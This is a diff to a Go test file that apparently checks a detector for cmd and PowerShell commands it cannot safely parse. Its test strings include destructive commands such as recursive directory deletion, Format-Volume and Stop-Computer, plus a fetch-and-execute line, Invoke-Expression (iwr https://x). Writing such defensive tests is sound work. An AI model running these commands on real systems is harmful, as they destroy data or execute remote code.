@@ -113,7 +113,7 @@ func TestCmdOutsideSubset(t *testing.T) {
 	for _, c := range []struct{ src, unknown, has string }{
 		{`echo %PATH%`, "%PATH%", ""},
 		{`dir %1`, "argument", ""},
-		{`for %i in (*) do rd /s /q %i`, "for", "rd /s /q %i"},
+		{`for /r %i in (*) do rd /s /q %i`, "for", "rd /s /q %i"},
 		{`call x.cmd`, "call", ""},
 		{`(rd /s /q x)`, "parenthesised", "rd /s /q x"},
 		{`if exist x (echo a) else rd /s /q x`, "else", "rd /s /q x"},
@@ -178,7 +178,7 @@ func TestPowerShellOutsideSubset(t *testing.T) {
 		{`gci | % { Remove-Item $_ -Recurse }`, "script block", "Remove-Item"},
 		{`gci | ? { $_.Length -gt 1kb }`, "script block", ""},
 		{`iex "Get-Date"`, "Invoke-Expression", ""},
-		{`Invoke-Expression (iwr https://x)`, "subexpression", "iwr https://x"},
+		{`Invoke-Expression (iwr https://x)`, "Invoke-Expression", "iwr https://x"},
 		{`foreach ($f in ls) { Format-Volume -DriveLetter D }`, "foreach", "Format-Volume"},
 		{`if ($true) { Stop-Computer }`, "if", "Stop-Computer"},
 		{`Write-Output "$env:PATH"`, "string", ""},
